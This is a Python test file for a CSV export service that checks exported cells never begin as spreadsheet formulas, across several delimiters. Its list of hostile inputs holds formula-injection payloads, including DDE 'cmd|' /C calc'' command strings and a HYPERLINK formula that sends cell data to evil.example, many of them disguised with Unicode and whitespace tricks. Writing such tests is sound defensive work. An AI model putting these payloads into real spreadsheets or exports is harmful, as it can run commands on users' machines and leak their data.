"""CSV that no spreadsheet takes for formulas: thirty ways to try."""

import csv
import io
from decimal import Decimal

import pytest

from casetrack.services.spreadsheets import csv_bytes, safe_text

HOSTILE = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example?x="&A1,"click")',
    "+1+1",
    "-2+3+cmd|' /C calc'!D2",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "|calc",
    "%APPDATA%",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\x00=1+1",
    " =1+1",
    "   @SUM(1)",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\u202e=1+1",
    "\x0b+1",
    "\x1f-1+cmd",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    " \ufeff\t=1+1",
    "a\n=1+1",
    "a\r\n+cmd|' /C calc'!A0",
    'a";=1+1',
    "a;\t@SUM(1)",
    "a\t=1+1",
    "\u2212 1",
]
FIRST = "=+-@|%＝＋－＠−"


def cells_of(made: bytes, delimiter: str) -> list[str]:
    """Every cell as a program set to this separator splits it, quotes read or not."""
    text = made.decode("utf-8")
    quoted = [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter) for cell in row]
    split = [cell.strip('"') for line in text.splitlines() for cell in line.split(delimiter)]
    return quoted + (split if delimiter != "," else [])


@pytest.mark.parametrize("text", HOSTILE)
def test_no_cell_begins_as_a_formula(text: str) -> None:
    made = csv_bytes(["what", "number"], [[text, 3], ["after", 4]])
    for delimiter in (",", ";", "\t"):
        for cell in cells_of(made, delimiter):
            seen = cell.lstrip("\t\r\n\x00\x0b\x1f \u00a0\u3000\ufeff\u200b\u202e")
            assert not seen.startswith(tuple(FIRST)), (delimiter, cell)


@pytest.mark.parametrize("text", ["30 people", "Олена Петренко", "a - b", "Food, 14 parcels", "x=1", "", "'quoted'", "مدرسة"])
def test_an_ordinary_text_stays_as_it_is(text: str) -> None:
    assert safe_text(text) == text
    rows = list(csv.reader(io.StringIO(csv_bytes(["what"], [[text]]).decode("utf-8"), newline="")))
    assert rows[1] == ([text] if text else [""])


def test_numbers_of_ours_stay_numbers() -> None:
    made = csv_bytes(["a", "b", "c"], [[-3, Decimal("2.50"), None]])
    assert made.splitlines()[1] == b'-3,2.50,""'


def test_a_lone_surrogate_and_nul_do_not_reach_the_file() -> None:
    made = csv_bytes(["what"], [["a\ud800b\x00c"]])
    assert "a\ufffdbc" in made.decode("utf-8")
